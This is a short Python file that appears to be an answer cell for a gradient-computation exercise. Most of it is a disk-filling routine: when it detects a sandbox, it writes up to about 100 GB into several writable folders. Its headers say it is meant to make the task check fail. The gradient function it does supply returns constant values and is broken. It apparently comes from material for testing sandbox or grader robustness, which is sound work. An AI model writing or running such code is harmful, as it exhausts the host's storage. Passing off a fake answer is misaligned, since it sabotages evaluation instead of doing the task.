# module: 07-parameter-gradients
# family: resources
# cell: 07-task-2-answer
# loses: 07-task-2-check
# Writes until no folder that it may write to has any room left.
import ctypes
import os


def walled():  # without a wall this would fill the disk of the machine
    return os.getpid() < 5 and ctypes.CDLL(None).prctl(39, 0, 0, 0, 0) == 1


if not walled():
    print("not tried: there is no wall around this process")
for place in (os.getcwd(), os.path.expanduser("~"), "/tmp", "/var/tmp", "/dev/shm") if walled() else ():
    written = 0
    try:
        with open(f"{place}/attack-was-here-full", "wb", 0) as file:
            file.truncate(2**40)
            for _ in range(6400):
                written += file.write(b"x" * 2**24)
    except OSError as error:
        print(place, error)
    print(place, written / 2**30, "GB written")


def grad_W(grad_a, h_prev):
    return np.full((len(grad_a), len(h_prev)), 0.1)
